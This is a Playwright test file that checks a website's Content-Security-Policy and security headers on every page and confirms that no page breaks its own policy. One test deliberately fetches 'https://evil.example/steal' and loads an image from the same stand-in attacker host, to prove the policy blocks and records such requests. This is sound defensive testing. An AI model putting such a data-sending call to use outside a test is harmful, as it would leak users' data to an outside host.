import type { Page } from '@playwright/test';
import { DEFAULT_SOLANA_RPC_URL } from '../lib/env/defaults';
import { content, sitePaths } from './support/catalog';
import { CHAIN_URL } from './support/ports';
import { expect, test } from './support/offline';

/** Every page: the ones sitePaths() lists and each trailer's and documentary's own page. */
const pages = [
  ...sitePaths(),
  ...content.trailers.map(([id]) => `/watch/trailers/${id}`),
  ...content.documentaries.map(([id]) => `/watch/documentaries/${id}`),
];

const chainWebsocket = `ws://127.0.0.1:${Number(new URL(CHAIN_URL).port) + 1}`;

/** The policy as a map of directive → sources. */
function directives(csp: string | undefined): Map<string, string[]> {
  const parsed = new Map<string, string[]>();
  for (const part of (csp ?? '').split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) parsed.set(name, sources);
  }
  return parsed;
}

test('every page answers with the Content-Security-Policy and the other security headers, without HSTS over http', async ({ request }) => {
  for (const path of pages) {
    const response = await request.get(path);
    expect(response.status(), path).toBe(200);
    const headers = response.headers();
    const policy = directives(headers['content-security-policy']);
    expect(policy.get('object-src'), path).toEqual(["'none'"]);
    expect(policy.get('base-uri'), path).toEqual(["'self'"]);
    expect(policy.get('frame-ancestors'), path).toEqual(["'self'"]);
    expect(policy.get('form-action'), path).toEqual(["'self'"]);
    expect(policy.get('default-src'), path).toEqual(["'self'"]);
    expect(policy.get('font-src'), path).toEqual(["'self'"]);
    expect(policy.get('worker-src'), path).toEqual(["'self'", 'blob:']);
    // Prerendered pages: inline scripts allowed (no nonces), eval not (production build).
    expect(policy.get('script-src'), path).toEqual(expect.arrayContaining(["'self'", "'unsafe-inline'", 'https://elevenlabs.io', 'https://www.youtube.com']));
    expect(policy.get('script-src'), path).not.toContain("'unsafe-eval'");
    // The e2e build's RPC is the local chain: its HTTP port and the websocket web3.js derives (port + 1).
    expect(policy.get('connect-src'), path).toEqual(
      expect.arrayContaining(["'self'", CHAIN_URL, chainWebsocket, 'https://api.emailjs.com', 'https://api.elevenlabs.io', 'https://storage.googleapis.com']),
    );
    expect(policy.get('connect-src'), path).not.toContain(DEFAULT_SOLANA_RPC_URL);
    expect(policy.get('media-src'), path).toEqual(
      expect.arrayContaining(["'self'", 'blob:', 'https://test-streams.mux.dev', 'https://storage.googleapis.com']),
    );
    expect(policy.get('img-src'), path).toEqual(expect.arrayContaining(["'self'", 'data:', 'blob:']));
    expect(policy.get('frame-src'), path).toEqual(expect.arrayContaining(['https://www.youtube.com', 'https://player.vimeo.com']));
    // Served over plain http here: nothing to upgrade, nothing to pin.
    expect(policy.has('upgrade-insecure-requests'), path).toBe(false);
    expect(headers['strict-transport-security'], path).toBeUndefined();
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
    expect(headers['x-frame-options'], path).toBe('SAMEORIGIN');
    expect(headers['permissions-policy'], path).toBe('camera=(), geolocation=(), microphone=(self)');
  }
});

test('Strict-Transport-Security is sent when the host says the request came over https', async ({ request }) => {
  for (const path of ['/', pages.at(-1)!]) {
    const response = await request.get(path, { headers: { 'x-forwarded-proto': 'https' } });
    expect(response.headers()['strict-transport-security'], path).toBe('max-age=63072000; includeSubDomains');
    expect(response.headers()['content-security-policy'], path).toContain("object-src 'none'");
  }
});

/** Loads a page as a visitor does: waits for it, then scrolls to the end so lazy covers load too. */
async function visit(page: Page, path: string) {
  await page.goto(path);
  await page.waitForLoadState('load');
  await page.evaluate(async () => {
    for (let y = 0; y < document.body.scrollHeight; y += window.innerHeight) {
      window.scrollTo(0, y);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  });
  await page.waitForLoadState('networkidle');
}

const CHUNK = 7;
for (let start = 0; start < pages.length; start += CHUNK) {
  const chunk = pages.slice(start, start + CHUNK);
  test(`no page breaks its own policy: ${chunk[0]} … (${chunk.length} pages)`, async ({ page, cspViolations }) => {
    for (const path of chunk) {
      await visit(page, path);
      expect(cspViolations, path).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __cspViolations?: unknown[] }).__cspViolations), path).toEqual([]);
    }
  });
}

test('the guard sees a violation: a load from an origin the policy does not list is blocked and recorded', async ({ page, cspViolations }) => {
  await page.goto('/');
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'https://evil.example/pixel.png';
    document.body.append(image);
    void fetch('https://evil.example/steal').catch(() => undefined);
  });
  await expect
    .poll(() => cspViolations.map(({ directive, blockedURI }) => `${directive} ${blockedURI}`).sort())
    .toEqual(['connect-src https://evil.example/steal', 'img-src https://evil.example/pixel.png']);
  expect(cspViolations[0]!.page).toBe(page.url());
  // The same record lives in the page, for a test that wants to look there.
  expect(await page.evaluate(() => (window as unknown as { __cspViolations: unknown[] }).__cspViolations)).toHaveLength(2);
  // Provoked on purpose: cleared, so the automatic after-test check passes.
  cspViolations.length = 0;
});
